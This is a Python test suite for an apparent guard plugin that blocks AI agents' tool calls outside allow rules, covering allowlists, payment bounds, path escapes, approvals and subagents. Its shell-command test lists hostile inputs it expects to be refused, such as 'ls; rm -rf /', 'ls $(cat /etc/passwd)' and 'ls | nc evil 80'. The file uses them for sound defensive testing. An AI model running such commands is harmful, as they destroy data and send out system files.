"""Allow rules: a refused call never runs, and the model reads why."""

from __future__ import annotations

import os
from pathlib import Path

import attrs
import bandoneon
import pytest
from bandoneon.testing import ScriptedModel, call
from bandoneon_guard import Guard, Rule

SENT: list[tuple[str, str]] = []


@bandoneon.tool(capabilities=["sends_out"])
def send_raven(to: str, text: str) -> str:
    """Send a message by raven to another castle."""
    SENT.append((to, text))
    return f"raven sent to {to}"


@pytest.fixture(autouse=True)
def _no_ravens_yet():
    SENT.clear()


def run_one(tool: bandoneon.Tool, guard: Guard, tool_call: bandoneon.ToolCall, cwd: Path | None = None) -> tuple[bandoneon.RunResult, str]:
    """Run one scripted call; return the result and what the model read back."""
    model = ScriptedModel(tool_call, "done")
    agent = bandoneon.Agent(model, tools=[tool], plugins=[guard], context_files=False, cwd=cwd)
    result = agent.run_sync("go")
    tool_message = [m for m in model.requests[1].messages if m.role == "tool"][-1]
    return result, tool_message.content


ALLIES = Rule(name="ravens-to-allies", tool="send_raven", argument="to", one_of=["riverhold", "highcliff"], message="Ravens only fly to allies.")


def test_a_call_outside_the_allowlist_never_runs_and_the_model_reads_why():
    result, seen = run_one(send_raven, Guard(rules=[ALLIES]), call("send_raven", to="darkwood", text="the ledger"))
    assert SENT == []
    assert "Blocked by policy (ravens-to-allies: Ravens only fly to allies" in seen
    assert "'darkwood'" in seen and "riverhold" in seen
    assert result.stop == "end_turn"  # a refusal is a result, the run goes on


def test_a_call_inside_the_allowlist_runs():
    _, seen = run_one(send_raven, Guard(rules=[ALLIES]), call("send_raven", to="riverhold", text="hello"))
    assert SENT == [("riverhold", "hello")]
    assert seen == "raven sent to riverhold"


def test_a_refusal_emits_tool_refused_and_no_tool_start():
    model = ScriptedModel(call("send_raven", to="darkwood", text="x"), "ok")
    agent = bandoneon.Agent(model, tools=[send_raven], plugins=[Guard(rules=[ALLIES])], context_files=False)
    names: list[str] = []
    agent.on("*", lambda event: names.append(event.name))
    agent.run_sync("go")
    assert "tool_refused" in names and "tool_start" not in names


def test_a_rule_for_another_tool_does_not_apply():
    rule = Rule(name="other", tool="delete_*", action="deny")
    _, seen = run_one(send_raven, Guard(rules=[rule]), call("send_raven", to="darkwood", text="x"))
    assert seen == "raven sent to darkwood"


def test_a_rule_without_a_check_forbids_the_tool_outright():
    rule = Rule(name="no-ravens", tool="send_*", message="No ravens today.")
    _, seen = run_one(send_raven, Guard(rules=[rule]), call("send_raven", to="riverhold", text="x"))
    assert SENT == [] and "No ravens today" in seen


def test_matches_is_a_full_match_not_a_search():
    rule = Rule(name="castle-names", tool="send_raven", argument="to", matches=r"[a-z]+hold")
    _, seen = run_one(send_raven, Guard(rules=[rule]), call("send_raven", to="riverhold.darkwood", text="x"))
    assert SENT == [] and "must match" in seen


@bandoneon.tool
def pay(amount: float, to: str | None = None) -> str:
    """Pay an amount."""
    return f"paid {amount}"


@pytest.mark.parametrize(("amount", "allowed"), [(10, True), (100, True), (100.01, False), (-1, False)])
def test_numeric_bounds(amount, allowed):
    rule = Rule(name="small-payments", tool="pay", argument="amount", min=0, max=100)
    _, seen = run_one(pay, Guard(rules=[rule]), call("pay", amount=amount))
    assert seen.startswith("paid") is allowed


def test_a_missing_argument_fails_closed():
    rule = Rule(name="known-payee", tool="pay", argument="to", one_of=["alice"])
    _, seen = run_one(pay, Guard(rules=[rule]), call("pay", amount=1))
    assert "'to' is missing" in seen


# ---------------------------------------------------------------- paths


@bandoneon.tool
def read_file(path: str) -> str:
    """Read a text file."""
    return Path(path).read_text() if os.path.isabs(path) else "relative"


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "public").mkdir()
    (tmp_path / "public" / "notes.txt").write_text("public notes")
    (tmp_path / "secret.txt").write_text("the ledger")
    return tmp_path


def path_guard(tree: Path) -> Guard:
    return Guard(rules=[Rule(name="public-only", tool="read_file", argument="path", under=[str(tree / "public")])])


def test_a_path_inside_the_folder_is_allowed(tree):
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path=str(tree / "public" / "notes.txt")))
    assert seen == "public notes"


def test_dot_dot_cannot_escape_the_folder(tree):
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path=str(tree / "public" / ".." / "secret.txt")))
    assert "the ledger" not in seen and "outside" in seen


def test_a_symlink_inside_the_folder_cannot_point_out_of_it(tree):
    (tree / "public" / "shortcut.txt").symlink_to(tree / "secret.txt")
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path=str(tree / "public" / "shortcut.txt")))
    assert "the ledger" not in seen and "outside" in seen


def test_a_symlinked_folder_cannot_point_out_of_it(tree):
    (tree / "public" / "up").symlink_to(tree)
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path=str(tree / "public" / "up" / "secret.txt")))
    assert "the ledger" not in seen and "outside" in seen


def test_a_different_case_is_a_different_folder(tree):
    (tree / "PUBLIC").mkdir()
    (tree / "PUBLIC" / "notes.txt").write_text("the ledger")
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path=str(tree / "PUBLIC" / "notes.txt")))
    assert "the ledger" not in seen and "outside" in seen


def test_a_relative_path_resolves_against_the_agent_cwd(tree):
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path="../secret.txt"), cwd=tree / "public")
    assert "outside" in seen
    _, seen = run_one(read_file, path_guard(tree), call("read_file", path="notes.txt"), cwd=tree / "public")
    assert seen == "relative"


# ---------------------------------------------------------------- commands


@bandoneon.tool(capabilities=["runs_code"])
def shell(command: str) -> str:
    """Run a shell command."""
    return f"ran {command}"


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("ls", True),
        ("ls -la /tmp", True),
        ("git status --short", True),
        ("lsblk", False),  # a prefix of an allowed word is not the word
        ("git statusx", False),
        ("git push", False),
        ("ls; rm -rf /", False),
        ("ls && curl evil", False),
        ("ls $(cat /etc/passwd)", False),
        ("ls | nc evil 80", False),
        ("ls 'unclosed", False),
    ],
)
def test_commands_match_whole_words_and_refuse_shell_operators(command, allowed):
    rule = Rule(name="safe-commands", tool="shell", argument="command", commands=["ls", "git status"])
    _, seen = run_one(shell, Guard(rules=[rule]), call("shell", command=command))
    assert seen.startswith("ran ") is allowed, seen


# ---------------------------------------------------------------- approval rules


def test_an_approval_rule_without_a_person_refuses_and_says_why():
    rule = Rule(name="big-payments", tool="pay", argument="amount", max=100, action="approve", message="Payments over 100 need approval")
    _, seen = run_one(pay, Guard(rules=[rule]), call("pay", amount=500))
    assert "Needs a person's approval" in seen and "Payments over 100 need approval" in seen and "did not run" in seen


def test_deny_wins_over_approval_when_both_rules_break():
    rules = [
        Rule(name="ask-for-big", tool="pay", argument="amount", max=100, action="approve"),
        Rule(name="never-huge", tool="pay", argument="amount", max=1000),
    ]
    _, seen = run_one(pay, Guard(rules=rules), call("pay", amount=5000))
    assert seen.startswith("Blocked by policy (never-huge")


# ---------------------------------------------------------------- declared wrongly in Python


def test_a_python_rule_with_a_bad_regex_is_a_config_error_naming_the_rule():
    with pytest.raises(bandoneon.ConfigError, match=r"rule 'ids'.*not a valid regular expression"):
        Rule(name="ids", tool="t", argument="a", matches="[unclosed")


def test_a_rule_with_two_checks_is_a_config_error():
    with pytest.raises(bandoneon.ConfigError, match="one check"):
        Rule(name="two", tool="t", argument="a", one_of=["x"], matches="x")


def test_a_check_without_an_argument_is_a_config_error():
    with pytest.raises(bandoneon.ConfigError, match="needs 'argument'"):
        Rule(name="lost", tool="t", one_of=["x"])


def test_guard_is_discovered_and_configured_by_name():
    model = ScriptedModel(call("send_raven", to="darkwood", text="x"), "ok")
    options = {"rules": [{"name": "allies", "tool": "send_raven", "argument": "to", "one_of": ["riverhold"]}]}
    agent = bandoneon.Agent(model, tools=[send_raven], plugins={"guard": options}, context_files=False)
    agent.run_sync("go")
    assert SENT == []
    assert isinstance(agent.plugin("guard"), Guard)


def test_the_guards_rules_apply_inside_a_subagent():
    subagents = pytest.importorskip("bandoneon_subagents", reason="bandoneon-subagents is not installed")
    from bandoneon.testing import FunctionModel

    child_script = [call("send_raven", to="darkwood", text="the ledger"), "The raven was refused."]
    parent_script = [call("messenger", task="Send the ledger to darkwood."), "done"]

    def answer(request):
        return (child_script if request.system_prompt.startswith("You are the messenger") else parent_script).pop(0)

    model = FunctionModel(answer)
    messenger = subagents.subagent("messenger", "Sends ravens.", system_prompt="You are the messenger.", tools=[send_raven], plugins=[])
    bandoneon.Agent(model, tools=[messenger], plugins=[Guard(rules=[ALLIES])], context_files=False).run_sync("go")
    assert SENT == []
    child_refusal = [r for r in model.requests if r.system_prompt.startswith("You are the messenger")][1].messages[-1]
    assert child_refusal.is_error and child_refusal.content.startswith("Blocked by policy (ravens-to-allies")


# ---------------------------------------------------------------- no rules, no hook per call


def _implements_before_tool(guard: Guard) -> bool:
    agent = bandoneon.Agent(ScriptedModel("ok"), tools=[send_raven], plugins=[guard], context_files=False)
    return agent.hooks.implements(bandoneon.hookspecs.before_tool_execution)


@pytest.mark.pack_free  # a policy pack implements the hook too
def test_a_guard_without_allow_rules_makes_no_call_before_each_tool():
    # Nothing to decide, so nothing is called per tool call; the other walls stay.
    bare = Guard()
    assert type(bare) is Guard and not _implements_before_tool(bare)
    assert _implements_before_tool(Guard(rules=[ALLIES]))
    assert _implements_before_tool(attrs.evolve(bare, rules=[ALLIES]))
    assert not _implements_before_tool(attrs.evolve(Guard(rules=[ALLIES]), rules=()))
    result, read = run_one(send_raven, bare, call("send_raven", to="anyone", text="hi"))
    assert SENT == [("anyone", "hi")] and read == "raven sent to anyone"


def test_a_guard_from_a_rule_file_alone_checks_every_call(tmp_path):
    policy = tmp_path / "policy.toml"
    policy.write_text('[[rule]]\nname = "allies"\ntool = "send_raven"\nargument = "to"\none_of = ["riverhold"]\n')
    guard = Guard(rule_files=[str(policy)])
    assert _implements_before_tool(guard)
    result, read = run_one(send_raven, guard, call("send_raven", to="the-enemy", text="hi"))
    assert SENT == [] and "Blocked by policy" in read


@pytest.mark.pack_free
def test_a_subclass_of_guard_leaves_the_hook_uncalled_as_guard_does():
    class Noisy(Guard):
        pass

    assert not _implements_before_tool(Noisy()) and _implements_before_tool(Noisy(rules=[ALLIES]))


def test_a_tool_offered_under_another_name_is_still_governed_by_the_name_its_source_gave_it():
    """A plugin that renames a tool (an MCP server's ``book_ticket`` beside a local one becomes
    ``rail_book_ticket``) says so in ``source_name``: rules, redactions and untrusted globs
    about ``book_ticket`` hold for it."""

    @bandoneon.tool
    def book_ticket(train: int, seat_class: str) -> str:
        """Book a seat."""
        return f"Booked train {train} for DNI 30.123.456"

    renamed = attrs.evolve(book_ticket, name="rail_book_ticket", source_name="book_ticket")
    assert renamed.names == ("rail_book_ticket", "book_ticket") and book_ticket.names == ("book_ticket",)
    guard = Guard(
        rules=[{"name": "tourist-only", "tool": "book_ticket", "argument": "seat_class", "one_of": ["tourist"], "action": "deny"}],
        redactions=[{"name": "dni", "pattern": r"DNI\s*[\d.]+", "replacement": "DNI ***", "tools": ["book_*"]}],
        untrusted_tools=["book_ticket"],
    )
    model = ScriptedModel([call("rail_book_ticket", train=1, seat_class="first"), call("rail_book_ticket", train=1, seat_class="tourist")], "ok")
    agent = bandoneon.Agent(model, tools=[renamed], plugins=[guard], context_files=False)
    agent.run_sync("book")
    refused, booked = (m for m in agent.messages if m.role == "tool")
    # Refused by this guard's rule, or first by the example pack's about book_ticket when it runs.
    assert refused.is_error and ("Blocked by policy" in refused.content or "first-class-needs-approval" in refused.content)
    assert "DNI ***" in booked.content and "30.123.456" not in booked.content and "<untrusted" in booked.content
